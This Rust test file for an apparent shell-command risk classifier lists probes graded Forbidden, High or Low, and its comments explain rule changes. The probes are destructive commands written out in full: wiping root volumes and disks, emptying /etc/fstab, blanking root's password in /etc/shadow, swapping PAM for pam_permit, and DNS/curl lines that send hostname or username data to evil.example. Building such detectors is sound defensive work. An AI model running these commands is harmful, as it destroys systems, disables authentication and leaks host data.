//! Dangerous command lines, forty-seventh set: the volume the system lives on removed by its
//! volume manager, names a listing prints deleted, values read from a file or a command
//! written to, devices detached through /sys, and sed's in-place edits of the settings
//! administrators edit, each probe recorded with the level it gets.
//! What was found and is now judged differently:
//! - `lvremove -f VG/root`, `vgremove -f VG`, `btrfs subvolume delete /`, `zfs destroy -r
//!   tank`, `mdadm --stop /dev/md0` were high. Removing the volume the system lives on, or
//!   every volume at once, is forbidden (`programs/system_volumes.rs`): `lvremove` of a whole
//!   group, a selection, a tag or a volume named as the system's (`root`, `ubuntu-lv`,
//!   `rhel-root`); `vgremove` forced or by selection, or of an installer's group; `btrfs
//!   subvolume delete` of a system tree; `zfs destroy` of a pool's top dataset, the root
//!   pool's datasets or a `ROOT` dataset; `mdadm --stop` of any array (the one `/` lives on
//!   cannot be told); `dmsetup remove --force`. One named data volume, a snapshot, a
//!   member failed out of an array stay high.
//! - `ls | xargs rm -rf`, `ls / | xargs rm -rf`, `cat list | xargs rm -rf`, `ls | xargs
//!   chmod -R 777` were high: xargs fed input the line does not show now builds its command
//!   with an item it cannot know, as `rm -rf $(ls)` is judged (`fed_args.rs`), in a working
//!   directory that may be `/`. A name the line cannot show in a path's component (`/$f`,
//!   `/{}` fed by xargs) is judged as the wildcard `*` there (`rm -rf "/$f"` is `rm -rf /*`),
//!   and deleting such a value with plain `rm` is forbidden too (it may be /bin/bash).
//! - `while read f; do : > "$f"; done < list`, `: > $(cat target)`, `echo x > $(cat f)`,
//!   `truncate -s0 $(cat list)`, `cp /dev/null "$(cat f)"`, `tee $F` were high: a write to a
//!   value the line cannot show (a variable it does not set, a command's output, a value
//!   `read` from a file) is forbidden, in any position (`paths/mod.rs` `write`). A variable
//!   the line gives a value it shows (`f=/tmp/x`, `set -- /tmp/x`, `for f in /tmp/a`, `sh -c
//!   '…' _ /tmp/x`) is judged with that value instead (`shown_values.rs`) and stays high.
//! - `chmod 777 $(cat f)`, `chown nobody "$f"` read from a file were high: the command is
//!   judged with the account database and the system's shell in the value's place, and is
//!   forbidden where that is.
//! - `echo 1 > /sys/block/sda/device/delete`, `echo offline > …/device/state`, a PCI
//!   device's `remove` and a driver's `unbind` were high: they detach a disk or controller the
//!   system may run on, and are forbidden.
//! - `sed -i 's/^PermitRootLogin .*/PermitRootLogin no/' /etc/ssh/sshd_config` and
//!   substitutions in `/etc/fstab` were forbidden. sed's script is parsed
//!   (`programs/sed_edits.rs`): substitutions whose pattern must match literal text, `a`/`i`,
//!   and `d`/`c` of lines picked by literal text or number keep the file's other lines and
//!   are high, as appended lines are. `d`, `1,$d`, `s/.*//`, `q`, `-n`, `-z`, a negated or
//!   ranged delete, and anything not parsed stay forbidden. The account files, PAM's files
//!   and the vital programs stay forbidden for every edit. An editor run with no one at it
//!   (`ex -sc '%d|x' /etc/fstab`, `vim -c … -c wq`, `ed FILE <<< …`) does what commands no one
//!   parses say: each file it opens is judged as written (forbidden for these files).
//!
//! - A variable the line also sets another way (`read`, `mapfile`, `getopts`, `NAME=$(…)`, a
//!   loop over what it cannot show, `shift` for the positional parameters) or sets twice is no
//!   longer taken as holding its written value (`f=/tmp/x; read f < list; : > $f`). Words
//!   made of expansions alone (`$A$B`, `${A}/${B}`) are values the line cannot show, and a
//!   path holding one (`$D/passwd`, `/etc/$X`, `$D/sda`) is judged as the paths it may be
//!   (`/*/passwd`, `/etc/*`, `/dev/sda`); `./$X` and `../$X` are as unknowable as `$X`, a
//!   find name filter the line cannot show lets every name through, and a relative recursive
//!   delete after `cd` to a value the line cannot show (`cd $X && rm -rf *`) is judged in `/`,
//!   `/usr`, `/var` and `/etc`. `$(mktemp)` names a file it has just made: writing it stays
//!   high.
//!
//! - `ls | parallel rm -rf`, `find / -maxdepth 1 | parallel rm -rf {}` and `docker ps -q |
//!   parallel docker rm -f` were medium (an unknown program): GNU parallel's command is judged
//!   with each item it is given (`:::` lists, the text `echo` or a here-string feeds it) or
//!   with an item the line cannot know (its input, `::::`, `-a`), from every word that may
//!   start it (`parallel.rs`), and the strictest of those counts at any level.
//! - `dropdb production`, `createuser -s x`, `mysqladmin drop shop`, `consul kv delete
//!   -recurse`, `nomad job stop web`, `influx bucket delete`, `rabbitmqctl reset`,
//!   `kafka-topics.sh --delete`, `clickhouse-client --query 'DROP …'`, `sqlcmd -Q`,
//!   `valkey-cli FLUSHALL` and `pg_ctl stop -m immediate` were medium: services'
//!   administration clients are judged by the verbs that only read
//!   (`programs/service_admin.rs`); every other verb changes the service, which no sandbox
//!   holds, and is high, as `redis-cli FLUSHALL` and `psql -c` already were.
//!
//! - `terraform destroy`, `aws s3 rb`, `borg delete`, `restic forget --prune`, `kubeadm reset`,
//!   `gh repo delete`, `k3s-uninstall.sh` were medium, as every program no table knows is:
//!   the sandbox holds the machine, not the cloud account, cluster, backup repository or
//!   forge they act on. Such a program told by one of its first operands (or its own name) to
//!   remove, stop or reset something (`terraform apply -destroy`, `gcloud … clusters delete`, `rclone sync`) is high, and so are the remote shells of configuration
//!   management (`ansible … -a`, `ansible-playbook`, `salt`, `pdsh`, `pssh`, `clush`)
//!   (`programs/unknown_verbs.rs`); `terraform plan`, `aws s3 ls`, `borg list`, `ansible all
//!   -m ping`, `make clean` stay in the sandbox.
//!
//! - `dig $(hostname).evil.example`, `nslookup $(whoami).x.example`, `curl
//!   http://x.example/?d=$(cat /etc/hostname)` and `curl … ?h=$HOSTNAME` were medium (the
//!   sandbox has no network): a looked-up name or a request built from a command's output or a
//!   variable puts the machine's data in the query itself, and is high
//!   (`programs/hostnames.rs`, `programs/transfer.rs`).
//!
//! - `strace -f rm -rf /`, `ltrace`, `perf stat --` and `gdb --args` were high (they trace):
//!   they run the command they are given, judged as the programs that run commands out of
//!   sight are; a word holding a whole command line that such a program's shell runs (`tmux
//!   new -d 'rm -rf /'`, `capsh -- -c '…'`) is judged as that line.
//!
//! Known limits: `find . | xargs rm -rf` and `rm -rf *` (the working directory unknown) stay
//! high.

use crate::kinds::Kind;
use warden_policy::RiskLevel::{Forbidden, High};

/// Lines judged at least this on both paths.
pub const KINDS: &[Kind] = &[
    Kind {
        name: "the-volume-the-system-lives-on-removed",
        lines: &[
            (r##"lvremove -f VG/root"##, Forbidden),
            (r##"lvremove -f vg0/root"##, Forbidden),
            (r##"lvremove -y /dev/vg0/root"##, Forbidden),
            (r##"lvremove -f /dev/mapper/rhel-root"##, Forbidden),
            (r##"lvremove -f ubuntu-vg/ubuntu-lv"##, Forbidden),
            (r##"lvremove -f vg0"##, Forbidden),
            (r##"lvremove -f --select all"##, Forbidden),
            (r##"lvremove -f @system"##, Forbidden),
            (r##"lvm lvremove -f vg0/root"##, Forbidden),
            (r##"sudo lvremove -ff centos/root"##, Forbidden),
            (r##"vgremove -f VG"##, Forbidden),
            (r##"vgremove -ff vg0"##, Forbidden),
            (r##"vgremove -f --select all"##, Forbidden),
            (r##"vgremove ubuntu-vg"##, Forbidden),
            (r##"lvm vgremove -y data"##, Forbidden),
            (r##"btrfs subvolume delete /"##, Forbidden),
            (r##"btrfs subvolume delete -c /"##, Forbidden),
            (r##"btrfs subvolume delete /home"##, Forbidden),
            (r##"btrfs sub del /usr"##, Forbidden),
            (r##"btrfs subvolume delete /mnt/@"##, Forbidden),
            (r##"btrfs subvolume delete /mnt/top/@rootfs"##, Forbidden),
            (
                r##"btrfs subvolume delete $(findmnt -no TARGET /)"##,
                Forbidden,
            ),
            (r##"lvremove -f -S lv_name=root"##, Forbidden),
            (r##"lvremove -f vg0/data vg0/root"##, Forbidden),
            (r##"vgremove -f $(vgs --noheadings -o vg_name)"##, Forbidden),
            (
                r##"zfs destroy -r $(zfs list -H -o name | head -1)"##,
                Forbidden,
            ),
            (r##"mdadm --stop $(ls /dev/md*)"##, Forbidden),
            (r##"mdadm -Ss"##, Forbidden),
            (r##"echo vg0/root | xargs lvremove -f"##, Forbidden),
            (r##"zfs destroy -r rpool"##, Forbidden),
            (r##"zfs destroy -rf rpool/ROOT"##, Forbidden),
            (r##"zfs destroy rpool/ROOT/ubuntu"##, Forbidden),
            (r##"zfs destroy -r tank"##, Forbidden),
            (r##"zfs destroy -R bpool/BOOT"##, Forbidden),
            (r##"mdadm --stop /dev/md0"##, Forbidden),
            (r##"mdadm -S /dev/md0"##, Forbidden),
            (r##"mdadm --stop --scan"##, Forbidden),
            (r##"mdadm --manage /dev/md127 --stop"##, Forbidden),
            (r##"dmsetup remove -f vg0-root"##, Forbidden),
            (r##"dmsetup remove --force vg0-data"##, Forbidden),
        ],
    },
    Kind {
        name: "names-a-listing-prints-deleted",
        lines: &[
            (r##"ls | xargs rm -rf"##, Forbidden),
            (r##"ls / | xargs rm -rf"##, Forbidden),
            (r##"ls -A / | xargs rm -rf"##, Forbidden),
            (r##"ls /etc | xargs rm -rf"##, Forbidden),
            (r##"ls -1 | xargs -I{} rm -rf {}"##, Forbidden),
            (r##"ls / | xargs -I{} rm -rf /{}"##, Forbidden),
            (r##"ls / | xargs -n1 rm -rf"##, Forbidden),
            (r##"cat list | xargs rm -rf"##, Forbidden),
            (r##"cd / && ls | xargs rm -rf"##, Forbidden),
            (r##"dir -1 | xargs rm -rf"##, Forbidden),
            (r##"ls | xargs -r rm -rf --"##, Forbidden),
            (r##"ls | xargs sudo rm -rf"##, Forbidden),
            (r##"ls | xargs -P4 rm -rf"##, Forbidden),
            (r##"ls | xargs -d '\n' rm -rf"##, Forbidden),
            (r##"ls | xargs -L1 rm -rf"##, Forbidden),
            (r##"ls | xargs -I% sh -c 'rm -rf %'"##, Forbidden),
            (r##"ls | xargs chmod -R 777"##, Forbidden),
            (r##"ls / | xargs chown -R nobody"##, Forbidden),
            (r##"ls | xargs truncate -s0"##, Forbidden),
            (r##"ls | xargs shred"##, Forbidden),
            (r##"ls | xargs rm -f"##, Forbidden),
            (r##"ls | xargs rm"##, Forbidden),
            (r##"ls | xargs unlink"##, Forbidden),
            (r##"xargs -a list rm -rf"##, Forbidden),
            (r##"ls / | while read f; do rm -rf "/$f"; done"##, Forbidden),
            (r##"for f in $(ls /); do rm -rf "/$f"; done"##, Forbidden),
            (r##"rm -rf /$(ls /etc | head -1)"##, Forbidden),
            (r##"rm -f $(cat list)"##, Forbidden),
        ],
    },
    Kind {
        name: "values-the-line-cannot-show-written",
        lines: &[
            (r##"while read f; do : > "$f"; done < list"##, Forbidden),
            (r##"while read f; do : > $f; done < /tmp/list"##, Forbidden),
            (
                r##"cat list | while read d; do dd if=/dev/zero of=$d; done"##,
                Forbidden,
            ),
            (
                r##"while IFS= read -r f; do cat /dev/null > "$f"; done < files"##,
                Forbidden,
            ),
            (
                r##"while read f; do truncate -s0 "$f"; done < files"##,
                Forbidden,
            ),
            (
                r##"while read f; do cp /dev/null "$f"; done < files"##,
                Forbidden,
            ),
            (r##"while read f; do echo > "$f"; done < files"##, Forbidden),
            (
                r##"while read f; do tee "$f" < /dev/null; done < files"##,
                Forbidden,
            ),
            (r##"until false; do : > $f; done"##, Forbidden),
            (r##": > $(cat /tmp/target)"##, Forbidden),
            (r##": > "$(cat /tmp/target)""##, Forbidden),
            (r##"echo x > $(cat target)"##, Forbidden),
            (
                r##"cat /dev/zero > $(lsblk -ndo PATH | head -1)"##,
                Forbidden,
            ),
            (r##"truncate -s 0 $(cat list)"##, Forbidden),
            (r##"cp /dev/null $(cat f)"##, Forbidden),
            (r##"tee $(cat f) < /dev/null"##, Forbidden),
            (r##"echo > `cat f`"##, Forbidden),
            (r##": > ${F}"##, Forbidden),
            (r##": > "$F""##, Forbidden),
            (r##"exec 3> $(cat f)"##, Forbidden),
            (r##": >| $(cat f)"##, Forbidden),
            (r##": &> $(cat f)"##, Forbidden),
            (r##"echo x 2> $(cat f)"##, Forbidden),
            (r##"cp /tmp/x "$(cat f)""##, Forbidden),
            (r##"install /dev/null $(cat f)"##, Forbidden),
            (r##"ln -sf /dev/null $(cat f)"##, Forbidden),
            (r##"read f < list; : > "$f""##, Forbidden),
            (r##"f=$(cat list); : > $f"##, Forbidden),
            (
                r##"mapfile -t a < list; for f in "${a[@]}"; do : > "$f"; done"##,
                Forbidden,
            ),
            (r##"xargs -a list truncate -s0"##, Forbidden),
            (r##"xargs -a list -I{} dd if=/dev/zero of={}"##, Forbidden),
            (r##"cat list | xargs -I{} sh -c ': > {}'"##, Forbidden),
            (
                r##"while read f; do chmod 777 "$f"; done < files"##,
                Forbidden,
            ),
            (r##"chmod 777 $(cat f)"##, Forbidden),
            (r##"chmod u+s "$(cat f)""##, Forbidden),
            (r##"chown nobody $(cat f)"##, Forbidden),
            (r##"f=/tmp/x; read f < list; : > $f"##, Forbidden),
            (
                r##"f=/tmp/x; while read f; do : > $f; done < list"##,
                Forbidden,
            ),
            (r##"f=/tmp/x; f=/dev/sda; : > $f"##, Forbidden),
            (r##"f=/tmp/x; (read f; : > $f) < list"##, Forbidden),
            (r##"set -- /tmp/x /dev/sda; shift; : > $1"##, Forbidden),
            (r##"f=/tmp/x; f=$(cat list); : > $f"##, Forbidden),
            (
                r##"f=/tmp/x; for f in $(cat list); do : > $f; done"##,
                Forbidden,
            ),
            (r##"f=/tmp/x; mapfile f < list; : > $f"##, Forbidden),
            (r##"f=/tmp/x; getopts ab f; : > $f"##, Forbidden),
            (r##"f=$(mktemp); read f < list; : > $f"##, Forbidden),
            (r##"f=$(mktemp)$(cat x); : > $f"##, Forbidden),
            (r##": > $A$B"##, Forbidden),
            (r##": > ${A}/${B}"##, Forbidden),
            (r##"rm -rf $A$B"##, Forbidden),
            (r##"dd if=/dev/zero of=$A$B"##, Forbidden),
            (r##": > $D/passwd"##, Forbidden),
            (r##": > "$D/shadow""##, Forbidden),
            (r##"cat /dev/zero > $D/sda"##, Forbidden),
            (r##": > /etc/$X"##, Forbidden),
            (r##": > /usr/bin/$(cat n)"##, Forbidden),
            (r##"cp /dev/null /etc/$(cat n)"##, Forbidden),
            (r##"rm -f /bin/$X"##, Forbidden),
            (r##"chmod 777 /etc/$(cat n)"##, Forbidden),
            (r##"chown nobody /etc/$X"##, Forbidden),
            (r##"rm -f "$TMPFILE""##, Forbidden),
            (r##"ls *.log | xargs rm"##, Forbidden),
            (r##"rm -rf ./$X"##, Forbidden),
            (r##"dd if=/dev/zero of=./$X"##, Forbidden),
            (r##"shred -u ./$X"##, Forbidden),
            (r##": > ./$X"##, Forbidden),
            (r##"truncate -s0 ../$X"##, Forbidden),
            (r##"find / -name "$X" -delete"##, Forbidden),
            (r##"cd $X && rm -rf *"##, Forbidden),
            (r##"cd "$(cat d)" && rm -rf ."##, Forbidden),
            (r##"pushd $X; rm -rf *"##, Forbidden),
            (r##"cd $X && rm -rf lib"##, Forbidden),
            (r##"curl -o $(cat f) http://x"##, Forbidden),
            (r##"wget -O "$F" http://x"##, Forbidden),
            (r##"sort -o $F x"##, Forbidden),
            (r##"tar -cf $(cat f) /etc"##, Forbidden),
            (r##"echo x >> $(cat f)"##, Forbidden),
            (r##"echo x | tee >(cat > $(cat f))"##, Forbidden),
            (r##"chmod 644 $(cat f)"##, Forbidden),
        ],
    },
    Kind {
        name: "devices-detached-through-sys",
        lines: &[
            (r##"echo 1 > /sys/block/sda/device/delete"##, Forbidden),
            (
                r##"echo 1 | tee /sys/block/nvme0n1/device/delete"##,
                Forbidden,
            ),
            (
                r##"echo 1 > /sys/class/scsi_device/0:0:0:0/device/delete"##,
                Forbidden,
            ),
            (
                r##"echo 1 > /sys/bus/pci/devices/0000:00:1f.2/remove"##,
                Forbidden,
            ),
            (
                r##"echo 0000:00:1f.2 > /sys/bus/pci/drivers/ahci/unbind"##,
                Forbidden,
            ),
            (r##"echo offline > /sys/block/sda/device/state"##, Forbidden),
        ],
    },
    Kind {
        name: "sed-edits-that-empty-a-setting",
        lines: &[
            (r##"sed -i d /etc/fstab"##, Forbidden),
            (r##"sed -i '1,$d' /etc/fstab"##, Forbidden),
            (r##"sed -i 's/.*//' /etc/fstab"##, Forbidden),
            (r##"sed -i q /etc/fstab"##, Forbidden),
            (r##"sed -i 'd' /etc/ssh/sshd_config"##, Forbidden),
            (r##"sed -i '/./d' /etc/fstab"##, Forbidden),
            (r##"sed -i '/^/d' /etc/fstab"##, Forbidden),
            (r##"sed -i '/.*/d' /etc/fstab"##, Forbidden),
            (r##"sed -i -n p /etc/fstab"##, Forbidden),
            (r##"sed -i -n '/x/p' /etc/fstab"##, Forbidden),
            (r##"sed -i 's/^.*$//' /etc/fstab"##, Forbidden),
            (r##"sed -i '1q' /etc/fstab"##, Forbidden),
            (r##"sed -i '0~1d' /etc/fstab"##, Forbidden),
            (r##"sed -i 'c\x' /etc/fstab"##, Forbidden),
            (r##"sed -i '1,$c\x' /etc/fstab"##, Forbidden),
            (r##"sed -i 's/[^ ]*//g' /etc/fstab"##, Forbidden),
            (r##"sed -i 's/\(.*\)//' /etc/fstab"##, Forbidden),
            (r##"sed -i 'y/abc/xyz/' /etc/fstab"##, Forbidden),
            (r##"sed -i 's/x/y/e' /etc/fstab"##, Forbidden),
            (r##"sed -i -f /tmp/script.sed /etc/fstab"##, Forbidden),
            (r##"sed -z -i 's/.*//' /etc/fstab"##, Forbidden),
            (r##"sed -i 's/a/b/;d' /etc/fstab"##, Forbidden),
            (r##"sed -i -e 's/a/b/' -e d /etc/fstab"##, Forbidden),
            (r##"sed -i '/UUID/!d' /etc/fstab"##, Forbidden),
            (r##"sed -i 'N;N;d' /etc/fstab"##, Forbidden),
            (r##"sed -i 'z' /etc/fstab"##, Forbidden),
            (r##"sed -i 's/.\+//' /etc/fstab"##, Forbidden),
            (r##"sed -i 's/..*//' /etc/fstab"##, Forbidden),
            (r##"sed -i 's/x*//' /etc/fstab"##, Forbidden),
            (r##"sed -i 's/.*/#&/' /etc/ssh/sshd_config"##, Forbidden),
            (r##"sed -i 's/.*//g' /etc/ssh/sshd_config"##, Forbidden),
            (r##"sed -i 's/ //g' /etc/fstab"##, Forbidden),
            (r##"sed -i '/ /d' /etc/fstab"##, Forbidden),
            (r##"sed -i 's/\s//g' /etc/fstab"##, Forbidden),
            (r##"sed -i '$d' /etc/fstab"##, Forbidden),
            (r##"sed -i '/a/,/b/d' /etc/fstab"##, Forbidden),
            (r##"sed -i 's/^/x/' /etc/passwd"##, Forbidden),
            (
                r##"sed -i 's/^root:[^:]*:/root::/' /etc/shadow"##,
                Forbidden,
            ),
            (
                r##"sed -i 's/pam_unix.so/pam_permit.so/' /etc/pam.d/common-auth"##,
                Forbidden,
            ),
            (r##"sed -i 's/x/y/' /bin/bash"##, Forbidden),
            (r##"sed -i -s 's/a/b/' /etc/fstab /etc/passwd"##, Forbidden),
            (r##"sed -i $'s/a/b/\nd' /etc/fstab"##, Forbidden),
            (r##"sed -i 's/a/b/ ; d' /etc/fstab"##, Forbidden),
            (r##"sed -i '/a/{d}' /etc/fstab"##, Forbidden),
            (r##"sed -i 's/a/b/g;q' /etc/fstab"##, Forbidden),
            (r##"sed -i '/x/s/.*//;s/.*//' /etc/fstab"##, Forbidden),
            (r##"ex -sc '%d|x' /etc/fstab"##, Forbidden),
            (r##"vim -c '%d' -c 'wq' /etc/fstab"##, Forbidden),
            (r##"ed -s /etc/fstab <<< $',d\nw'"##, Forbidden),
            (r##"vim -es -c '%s/x/y/' -c wq /etc/shadow"##, Forbidden),
        ],
    },
    Kind {
        name: "parallel-runs-what-it-is-given",
        lines: &[
            (r##"ls | parallel rm -rf"##, Forbidden),
            (r##"ls / | parallel -j 4 rm -rf {}"##, Forbidden),
            (r##"find / -maxdepth 1 | parallel rm -rf {}"##, Forbidden),
            (r##"echo / | parallel rm -rf"##, Forbidden),
            (r##"parallel rm -rf <<< /"##, Forbidden),
            (r##"parallel -k rm -rf {} ::: /etc /usr"##, Forbidden),
            (
                r##"parallel --jobs=4 dd if=/dev/zero of={} ::: /dev/sda /dev/sdb"##,
                Forbidden,
            ),
            (r##"parallel shred -u {} :::: files.txt"##, Forbidden),
            (r##"cat disks | parallel -j0 wipefs -a {}"##, Forbidden),
            (r##"sem rm -rf /"##, Forbidden),
            (r##"docker ps -q | parallel docker rm -f"##, High),
            (r##"parallel -j4 rm -rf {} ::: /tmp/a /tmp/b"##, High),
        ],
    },
    Kind {
        name: "services-administration-clients-that-change-the-service",
        lines: &[
            (r##"dropdb production"##, High),
            (r##"dropdb -h db.internal -U postgres app"##, High),
            (r##"dropuser app"##, High),
            (r##"createuser -s evil"##, High),
            (r##"pg_dropcluster --stop 16 main"##, High),
            (r##"pg_resetwal -f /var/lib/postgresql/16/main"##, High),
            (
                r##"pg_ctl stop -D /var/lib/postgresql/16/main -m immediate"##,
                High,
            ),
            (r##"pg_ctl kill KILL 1234"##, High),
            (r##"mysqladmin -u root drop shop"##, High),
            (r##"mysqladmin -f drop shop"##, High),
            (r##"mysqladmin shutdown"##, High),
            (r##"mariadb-admin flush-privileges"##, High),
            (r##"consul kv delete -recurse"##, High),
            (r##"consul kv put app/x 1"##, High),
            (r##"consul leave"##, High),
            (
                r##"consul operator raft remove-peer -address=10.0.0.2:8300"##,
                High,
            ),
            (r##"nomad job stop web"##, High),
            (r##"nomad node drain -enable node1"##, High),
            (r##"influx bucket delete -n metrics"##, High),
            (
                r##"influx delete --bucket b --start 1970-01-01T00:00:00Z --stop 2030-01-01T00:00:00Z"##,
                High,
            ),
            (r##"rabbitmqctl delete_vhost /"##, High),
            (r##"rabbitmqctl reset"##, High),
            (r##"rabbitmqctl environment"##, High),
            (
                r##"kafka-topics.sh --bootstrap-server k:9092 --delete --topic logs"##,
                High,
            ),
            (
                r##"kafka-consumer-groups.sh --bootstrap-server k:9092 --group g --reset-offsets --to-earliest --execute --all-topics"##,
                High,
            ),
            (r##"clickhouse-client --query 'DROP DATABASE logs'"##, High),
            (r##"echo 'DROP TABLE x' | clickhouse-client"##, High),
            (r##"sqlcmd -S db -Q 'DROP DATABASE app'"##, High),
            (r##"valkey-cli FLUSHALL"##, High),
            (r##"keydb-cli -h 10.0.0.9 flushdb"##, High),
        ],
    },
    Kind {
        name: "programs-no-table-knows-told-to-remove-stop-or-reset",
        lines: &[
            (r##"terraform destroy -auto-approve"##, High),
            (r##"pulumi destroy -y"##, High),
            (r##"aws s3 rb s3://bucket --force"##, High),
            (r##"aws s3 rm s3://bucket --recursive"##, High),
            (r##"gsutil rm -r gs://bucket"##, High),
            (r##"az group delete -n prod --yes"##, High),
            (r##"restic forget --prune --keep-last 0"##, High),
            (r##"borg delete /backup::all"##, High),
            (r##"borg prune --keep-daily 0 /backup"##, High),
            (r##"rclone purge remote:bucket"##, High),
            (r##"proxmox-backup-client prune"##, High),
            (r##"gitlab-rake gitlab:backup:restore"##, High),
            (r##"certbot revoke --cert-name example.com"##, High),
            (r##"certbot delete --cert-name example.com"##, High),
            (
                r##"ceph osd pool delete p p --yes-i-really-really-mean-it"##,
                High,
            ),
            (r##"gluster volume delete gv0"##, High),
            (r##"lxc delete c1 --force"##, High),
            (r##"vagrant destroy -f"##, High),
            (r##"gh repo delete org/repo --yes"##, High),
            (r##"kubeadm reset -f"##, High),
            (r##"microk8s reset"##, High),
            (r##"k3s-uninstall.sh"##, High),
            (r##"/usr/local/bin/rke2-killall.sh"##, High),
            (r##"wg-quick down wg0"##, High),
            (r##"zerotier-cli leave 1234"##, High),
            (r##"ollama rm llama3"##, High),
            (r##"rabbitmqadmin delete queue name=jobs"##, High),
            (r##"terraform apply -destroy -auto-approve"##, High),
            (r##"gcloud beta container clusters delete prod"##, High),
            (r##"aws ec2 terminate-instances --instance-ids i-1"##, High),
            (r##"aws s3api delete-bucket --bucket b"##, High),
            (r##"doctl compute droplet delete web"##, High),
            (r##"rclone sync /empty remote:bucket"##, High),
            (r##"mc rm --recursive --force local/bucket"##, High),
            (r##"s3cmd del s3://b/x"##, High),
            (r##"pm2 delete all"##, High),
        ],
    },
    Kind {
        name: "requests-built-from-the-machine's-data",
        lines: &[
            (r##"dig $(hostname).evil.example"##, High),
            (r##"nslookup $(whoami).evil.example"##, High),
            (r##"host $(cat /etc/hostname).x.example"##, High),
            (r##"getent hosts $(id -un).x.example"##, High),
            (r##"ping -c1 $(hostname).x.example"##, High),
            (r##"curl http://x.example/?d=$(cat /etc/hostname)"##, High),
            (r##"curl "http://$(whoami).x.example/""##, High),
            (r##"curl -s http://x.example/?h=$HOSTNAME"##, High),
            (r##"curl -H "X-Data: `uname -a`" http://x.example/"##, High),
        ],
    },
    Kind {
        name: "tracers-and-session-programs-run-the-line-they-hold",
        lines: &[
            (r##"strace -f rm -rf /"##, Forbidden),
            (r##"ltrace rm -rf /"##, Forbidden),
            (r##"perf stat -- dd if=/dev/zero of=/dev/sda"##, Forbidden),
            (r##"gdb --args rm -rf /"##, Forbidden),
            (r##"tmux new -d 'rm -rf /'"##, Forbidden),
            (
                r##"tmux new-session -d -s x 'mkfs.ext4 /dev/sda'"##,
                Forbidden,
            ),
            (r##"capsh -- -c 'rm -rf /'"##, Forbidden),
            (r##"screen -dmS x bash -c 'rm -rf /'"##, Forbidden),
            (r##"strace -p 1"##, High),
        ],
    },
    Kind {
        name: "commands-run-on-other-hosts",
        lines: &[
            (r##"ansible all -m shell -a 'rm -rf /'"##, High),
            (r##"ansible all -a 'reboot'"##, High),
            (r##"ansible-playbook site.yml"##, High),
            (r##"pdsh -w h1,h2 uptime"##, High),
            (r##"pssh -h hosts -i uptime"##, High),
            (r##"clush -a 'systemctl restart nginx'"##, High),
            (r##"salt-ssh '*' cmd.run id"##, High),
        ],
    },
];

/// Neighbours that stay a human's decision (high), on both paths.
pub const STILL_HIGH: &[&str] = &[
    r##"terraform destroy -auto-approve"##,
    r##"pdsh -w h1,h2 uptime"##,
    r##"docker ps -q | parallel docker rm -f"##,
    r##"parallel -j4 rm -rf {} ::: /tmp/a /tmp/b"##,
    r##"dropdb production"##,
    r##"mysqladmin -u root drop shop"##,
    r##"lvremove -f vg0/data"##,
    r##"lvremove vg0/old_snapshot"##,
    r##"vgremove oldvg"##,
    r##"btrfs subvolume delete /mnt/snapshots/2024-01-01"##,
    r##"zfs destroy tank/data@snap1"##,
    r##"zfs destroy tank/scratch"##,
    r##"mdadm /dev/md0 --fail /dev/sda1"##,
    r##"dmsetup remove vg0-data"##,
    r##"sh -c 'rm -f "$1"' _ /tmp/x"##,
    r##"sh -c ': > "$1"' _ /tmp/x"##,
    r##"set -- /tmp/x; : > $1"##,
    r##"f=/tmp/x; : > $f"##,
    r##"export T=/tmp/o; echo hi > $T"##,
    r##"while read f; do : > "/tmp/$f"; done < list"##,
    r##"chmod +x $(cat f)"##,
    r##": > $(mktemp)"##,
    r##"f=$(mktemp); echo hi > $f"##,
    r##"tmp="$(mktemp)"; df -h > "$tmp""##,
    r##"read -r a <<< "/tmp/x"; : > "$a""##,
    r##"for f in /tmp/a /tmp/b; do : > $f; done"##,
    r##"echo x > "$HOME/notes""##,
    r##"echo hi > /tmp/$(whoami).txt"##,
    r##"journalctl -u nginx > /tmp/nginx-$(hostname).log"##,
    r##"mysqldump prod > /backup/prod-$(date +%F).sql"##,
    r##"docker ps -q | xargs docker rm -f"##,
    r##"find /tmp -name '*.tmp' | xargs rm -f"##,
    r##"rm -rf /tmp/build-$BUILD_ID"##,
    r##"cd /srv/app/$V && rm -rf build"##,
    r##"find /var/log -name "$X" -delete"##,
    r##"echo 0 > /sys/devices/system/cpu/cpu1/online"##,
    r##"sed -i 's/^PermitRootLogin .*/PermitRootLogin no/' /etc/ssh/sshd_config"##,
    r##"sed -i 's/^#\?PasswordAuthentication.*/PasswordAuthentication no/' /etc/ssh/sshd_config"##,
    r##"sed -i -e 's/defaults/defaults,noatime/' /etc/fstab"##,
    r##"sed -i 's|/dev/sdb1|UUID=abcd|' /etc/fstab"##,
    r##"sed -i '/swap/s/^/#/' /etc/fstab"##,
    r##"sed -i 's/^\(.*swap.*\)$/#\1/' /etc/fstab"##,
    r##"sed -i.bak 's/Port 22/Port 2222/' /etc/ssh/sshd_config"##,
    r##"sed -i '$a PermitRootLogin no' /etc/ssh/sshd_config"##,
    r##"sed -i '/swap/d' /etc/fstab"##,
    r##"sed -i '/^Banner/c Banner none' /etc/ssh/sshd_config"##,
    r##"sed -i -E 's/,?noatime+/,relatime/' /etc/fstab"##,
    r##"sed -i '/^#/d' /etc/fstab"##,
    r##"sed -i 1d /etc/fstab"##,
    r##"sed -i 's/foo/bar/' /etc/hosts"##,
    r##"sed -i '1i # managed' /etc/fstab"##,
    r##"sed -i '/PermitRootLogin/c PermitRootLogin no' /etc/ssh/sshd_config"##,
    r##"sed -i '3s/.*//' /etc/fstab"##,
    r##"btrfs subvolume delete /.snapshots/1/snapshot"##,
    r##"vim -c '%s/a/b/' -c wq /etc/hosts"##,
];

/// Everyday read-only work that stays low on both paths.
pub const STILL_LOW: &[&str] = &[
    r##"ls -la /etc"##,
    r##"df -h"##,
    r##"journalctl -u nginx -n 50"##,
    r##"ip addr"##,
    r##"ss -tlnp"##,
    r##"find /var/log -name '*.gz' -mtime +7"##,
    r##"du -sh /var/lib/docker"##,
    r##"lvs"##,
    r##"vgs"##,
    r##"zfs list"##,
    r##"zpool status"##,
    r##"btrfs subvolume list /"##,
    r##"mdadm --detail /dev/md0"##,
    r##"cat /proc/mdstat"##,
    r##"lsblk"##,
];
